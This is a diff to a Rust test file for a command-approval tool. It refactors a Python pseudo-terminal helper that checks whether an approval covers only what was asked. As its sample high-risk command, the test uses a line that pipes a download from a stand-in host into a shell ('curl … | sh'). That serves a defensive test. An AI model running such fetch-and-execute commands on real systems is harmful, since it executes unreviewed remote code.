@@ -3,7 +3,7 @@
 
 use serde_json::Value;
 
-use crate::support::{Outcome, Scene, python};
+use crate::support::{Outcome, Scene, python_at_a_terminal};
 
 /// High: code from the network that nobody has read.
 const RISKY: [&str; 3] = ["sh", "-c", "touch ran; curl -fsS https://host.invalid/x | sh"];
@@ -166,44 +166,22 @@ fn who_approved_is_kept_with_what_was_approved() {
 fn an_answer_counts_only_for_what_was_asked() {
     let scene = Scene::new();
     run(&scene, &[], &["true"]).ok();
-    python(
+    python_at_a_terminal(
         &scene,
-        r#"
-import os, pty, select, time
+        r"
 project = os.getcwd()
-def run(meanwhile):
-    pid, fd = pty.fork()
-    if pid == 0:
-        command = ['sh', '-c', 'touch ran; curl -fsS https://host.invalid/x | sh']
-        os.execv(os.environ['CTRLZ'], ['ctrlz', 'run', '--net', 'host', '--', *command])
-    seen, answered = b'', False
-    limit = time.monotonic() + 60
-    while time.monotonic() < limit:
-        if select.select([fd], [], [], 0.2)[0]:
-            try:
-                data = os.read(fd, 65536)
-            except OSError:
-                break
-            if not data:
-                break
-            seen += data
-        if b'[y/N]' in seen and not answered:
-            meanwhile()
-            os.write(fd, b'y\n')
-            answered = True
-    assert answered, seen
-    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]), seen
-def elsewhere():
+command = ['sh', '-c', 'touch ran; curl -fsS https://host.invalid/x | sh']
+def elsewhere(seen):
     os.rename(project, project + '-moved')
     os.mkdir(project)
-code, seen = run(elsewhere)
+code, seen = answer(b'y\n', ['--net', 'host'], command, elsewhere)
 assert code == 123 and b'approved' in seen, (code, seen)
 os.rmdir(project)
 os.rename(project + '-moved', project)
 os.chdir(project)
-code, seen = run(lambda: None)
+code, seen = answer(b'y\n', ['--net', 'host'], command)
 assert code != 123, seen
-"#,
+",
     )
     .ok();
     assert_eq!(scene.changes(), ["added ran"]);
